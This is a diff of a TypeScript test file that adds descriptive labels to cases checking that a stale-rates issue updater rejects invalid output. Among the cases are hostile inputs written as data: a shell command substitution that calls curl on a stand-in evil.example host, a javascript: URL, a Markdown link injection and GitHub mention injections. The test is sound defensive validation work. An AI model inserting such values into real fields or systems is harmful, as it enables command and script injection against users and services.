@@ -82,16 +82,16 @@ describe('keepStaleIssue (issue about rates that have been stale for a day)', ()
 
   const withMirror = (mirror: object) => JSON.stringify({ ...stale, mirrors: [{ ...stale.mirrors[0], ...mirror }] });
   it.each([
-    'nonsense',
-    '[]',
-    '{}',
-    JSON.stringify({ ...stale, since: '@everyone' }),
-    JSON.stringify({ ...stale, asOf: '2026-09-31' }),
-    withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' }),
-    withMirror({ mirror: 'javascript:alert(1)' }),
-    withMirror({ outcome: '$(curl evil.example)' }),
-    withMirror({ date: '@me' }),
-  ])('throws and changes nothing if the output of the publish is the invalid text %s', async (output) => {
+    ['isn’t JSON', 'nonsense'],
+    ['is a list', '[]'],
+    ['has no fields', '{}'],
+    ['mentions GitHub users in place of a time', JSON.stringify({ ...stale, since: '@everyone' })],
+    ['has a date that doesn’t exist', JSON.stringify({ ...stale, asOf: '2026-09-31' })],
+    ['has Markdown in a mirror’s URL', withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' })],
+    ['has a mirror’s URL that runs a script', withMirror({ mirror: 'javascript:alert(1)' })],
+    ['has a shell command in place of a mirror’s outcome', withMirror({ outcome: '$(curl evil.example)' })],
+    ['mentions a GitHub user in place of a mirror’s date', withMirror({ date: '@me' })],
+  ])('throws and changes nothing if the output of the publish %s', async (_, output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     expect(workflow.api.issues).toEqual([]);
   });
